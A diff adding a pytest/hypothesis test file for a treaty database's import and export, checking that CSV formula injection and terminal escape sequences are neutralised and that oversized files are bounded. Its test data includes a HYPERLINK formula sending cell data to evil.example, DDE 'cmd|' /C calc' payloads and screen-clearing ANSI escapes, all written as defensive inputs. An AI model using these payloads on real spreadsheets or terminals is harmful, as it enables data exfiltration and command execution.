@@ -1,0 +1,238 @@
+"""Files and output that can't harm their reader, and files of any size that still import.
+
+Formula-like CSV cells are written as text and read back exactly; control characters are
+stored as given and printed escaped; long cells, wide headers and big files are handled in
+bounded time and memory.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from main import write_csv as list_csv
+from main import write_json as list_json
+from main import write_table as list_table
+from models.database import Database, open_database
+from models.exchange import ImportFailed, export_file, import_file
+from models.exchange_csv import CELL_LIMIT
+from models.exchange_write import csv_row_writer
+from models.query import AgreementFilter, Sort, iter_rows
+from models.safe_output import FORMULA_STARTS, csv_cell, read_csv_cell, shown
+from models.service import load_input
+from models.text import index_text
+from tests.models.builders import agreement, save, table_counts
+
+HEADER = "title,kind,status,parties,summary\n"
+# Values a spreadsheet would run, and values that really begin with "'".
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Тоқаев")',
+    "+7 727 000 00 00",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'Tis Oʻzbekiston's turn",
+    "''Türkiye''",
+    "'=not a formula",
+    "'",
+)
+# First characters that matter, with others mixed in, so hypothesis tries them often.
+_LEADING = st.sampled_from(sorted(FORMULA_STARTS | {"'", "a", "Қ", "ʻ", " ", "\n", '"'}))
+CELLS = st.builds(lambda first, rest: first + rest, st.text(_LEADING, max_size=3), st.text())
+
+
+def _reimported(database: Database, tmp_path: Path) -> dict[str, object]:
+    """Export everything to CSV, import it into a fresh file, and read it back by title."""
+    path = tmp_path / "out.csv"
+    with database.sessions.begin() as session:
+        export_file(session, path)
+    other = open_database(tmp_path / "other.db")
+    try:
+        with other.sessions.begin() as session:
+            assert import_file(session, path).added > 0
+            rows = list(iter_rows(session, AgreementFilter(), Sort()))
+        return {row.title: row for row in rows}
+    finally:
+        other.close()
+
+
+# ----------------------------------------------------------------- CSV injection
+
+
+@given(CELLS)
+@example("=1+1")
+@example("'=1+1")
+@example("''")
+@example("\r\n=x")
+def test_a_cell_never_starts_a_formula_and_reads_back_exactly(value: str) -> None:
+    cell = csv_cell(value)
+    assert cell[:1] not in FORMULA_STARTS
+    assert read_csv_cell(cell) == value
+
+
+@given(st.lists(CELLS, min_size=1, max_size=5))
+def test_a_row_of_any_text_survives_the_csv_module_both_ways(values: list[str]) -> None:
+    out = io.StringIO(newline="")
+    csv_row_writer(out)([csv_cell(value) for value in values])
+    cells = next(csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True))
+    assert [read_csv_cell(cell) for cell in cells] == values
+
+
+def test_exported_cells_are_shown_as_text_and_import_back_unchanged(
+    database: Database, tmp_path: Path
+) -> None:
+    for number, value in enumerate(HOSTILE):
+        save(
+            database,
+            agreement(
+                f"{value} {number}" if number % 2 else value,
+                parties=("Kazakhstan", value) if value.strip("'") else ("Kazakhstan",),
+                summary=value,
+                notes=value,
+                signed_at=value,
+                fields=[value],
+            ),
+        )
+    path = tmp_path / "out.csv"
+    with database.sessions.begin() as session:
+        export_file(session, path)
+    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
+    for row in rows[1:]:
+        assert all(cell[:1] not in FORMULA_STARTS for cell in row), row
+    assert sum(cell.startswith("'") for row in rows for cell in row) > len(HOSTILE) * 3
+    again = _reimported(database, tmp_path)
+    with database.sessions.begin() as session:
+        before = {row.title: row for row in iter_rows(session, AgreementFilter(), Sort())}
+    assert again.keys() == before.keys()
+    for title, row in before.items():
+        copy = again[title]
+        assert (copy.summary, copy.notes, copy.signed_at, copy.parties, copy.fields) == (  # type: ignore[attr-defined]
+            row.summary,
+            row.notes,
+            row.signed_at,
+            row.parties,
+            row.fields,
+        )
+
+
+def test_a_hand_written_apostrophe_stays_and_list_output_is_escaped_too(
+    database: Database, tmp_path: Path
+) -> None:
+    path = tmp_path / "hand.csv"
+    path.write_text(
+        HEADER + "'Tis a treaty,treaty,signed,Türkiye,'Oʻzbekiston\n"
+        "'=SUM(A1) accord,treaty,signed,Türkiye,''=kept one\n",
+        encoding="utf-8",
+    )
+    with database.sessions.begin() as session:
+        import_file(session, path)
+        rows = {row.title: row for row in iter_rows(session, AgreementFilter(), Sort())}
+        out = io.StringIO()
+        list_csv(iter_rows(session, AgreementFilter(), Sort()), out)
+    assert rows["'Tis a treaty"].summary == "'Oʻzbekiston"
+    assert rows["=SUM(A1) accord"].summary == "'=kept one"
+    listed = list(csv.reader(io.StringIO(out.getvalue())))
+    assert {row[1] for row in listed[1:]} == {"'Tis a treaty", "'=SUM(A1) accord"}
+
+
+# ----------------------------------------------------------------- control characters
+
+
+class Terminal(io.StringIO):
+    """Standard output as a terminal would be."""
+
+    def isatty(self) -> bool:
+        return True
+
+
+# (No NUL: PostgreSQL can't hold one.)
+ESCAPES = "Тоқаев\x1b[2J\x1b]0;pwned\x07 Oʻzbekiston\x9b31m Türkiye\x01\x7f"
+
+
+def test_control_characters_are_stored_as_given_and_listed_escaped(database: Database) -> None:
+    agreement_id = save(
+        database,
+        agreement(ESCAPES, parties=("Kazakhstan", f"Party {ESCAPES}"), summary=ESCAPES),
+    )
+    with database.sessions.begin() as session:
+        data, _ = load_input(session, agreement_id)
+        table, terminal, piped, as_json = io.StringIO(), Terminal(), io.StringIO(), io.StringIO()
+        for write, out in (
+            (list_table, table),
+            (list_csv, terminal),
+            (list_csv, piped),
+            (list_json, as_json),
+        ):
+            write(iter_rows(session, AgreementFilter(), Sort()), out)  # type: ignore[operator]
+    assert data.title == " ".join(ESCAPES.split()) and data.summary == ESCAPES
+    controls = [chr(code) for code in (*range(0, 9), *range(11, 32), *range(127, 160))]
+    for out in (table, terminal, as_json):
+        assert not any(character in out.getvalue() for character in controls), out
+    assert "\\x1b[2J" in table.getvalue() and "\\x9b31m" in terminal.getvalue()
+    # Into a file or a pipe, CSV keeps the text as it is (it has no escapes), and JSON's
+    # \u escapes read back as the same text.
+    assert "\x1b[2J" in piped.getvalue()
+    assert json.loads(as_json.getvalue())[0]["summary"] == ESCAPES
+
+
+def test_shown_escapes_controls_and_leaves_tab_newline_and_letters() -> None:
+    assert shown("a\tb\nc\x1b[0m\u0085Қ") == "a\tb\nc\\x1b[0m\\x85Қ"
+
+
+# ----------------------------------------------------------------- long cells, wide headers
+
+
+def test_a_cell_longer_than_the_csv_default_limit_imports_again(
+    database: Database, tmp_path: Path
+) -> None:
+    long = ("Қазақстан Oʻzbekiston Türkiye " * 20_000).strip()  # 600,000 characters
+    assert len(long) > 131_072  # the csv module's default limit
+    run = "x" * 300_000  # one word, beyond what PostgreSQL's text search takes in one
+    save(database, agreement("Long summary", summary=long, notes=run))
+    again = _reimported(database, tmp_path)
+    assert again["Long summary"].summary == long  # type: ignore[attr-defined]
+    assert again["Long summary"].notes == run  # type: ignore[attr-defined]
+
+
+def test_a_long_run_of_letters_is_indexed_in_linear_time() -> None:
+    start = time.perf_counter()
+    words = index_text("Oʻzbekiston and Côte d'Ivoire " + "Қ" * 30_000).split()
+    assert time.perf_counter() - start < 2  # 26 s before (each letter tried as a start)
+    assert words[:6] == ["ozbekiston", "and", "cote", "divoire", "к" * 30_000, "o"]
+
+
+def test_a_cell_beyond_the_bound_is_refused_clearly(database: Database, tmp_path: Path) -> None:
+    path = tmp_path / "huge.csv"
+    path.write_text(
+        HEADER + f"Huge,treaty,signed,Türkiye,{'x' * (CELL_LIMIT + 1)}\n", encoding="utf-8"
+    )
+    before = table_counts(database)
+    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
+        import_file(session, path)
+    assert [str(problem) for problem in failed.value.problems] == [
+        f"line 2: badly quoted cell: a cell longer than {CELL_LIMIT:,} characters, the most "
+        'one cell may hold (or a quoted cell that is never closed: a missing ")'
+    ]
+    assert table_counts(database) == before
+
+
+def test_a_header_of_100000_unknown_columns_is_refused_in_about_a_second(
+    database: Database, tmp_path: Path
+) -> None:
+    path = tmp_path / "wide.csv"
+    unknown = ",".join(f"extra{number}" for number in range(100_000))
+    path.write_text(f"title,kind,status,parties,{unknown}\nA,treaty,signed,KAZ\n", encoding="utf-8")
+    start = time.perf_counter()
+    with pytest.raises(ImportFailed) as failed, database.sessions.begin() as session:
+        import_file(session, path)
+    elapsed = time.perf_counter() - start
+    assert elapsed < 5, f"{elapsed:.1f} s"  # minutes before; about 0.3 s now
+    (problem,) = failed.value.problems
+    assert str(problem).startswith("line 1: unknown columns 'extra0', 'extra1', ")
+    assert "'extra9' and 99,990 more (the columns are title," in str(problem)
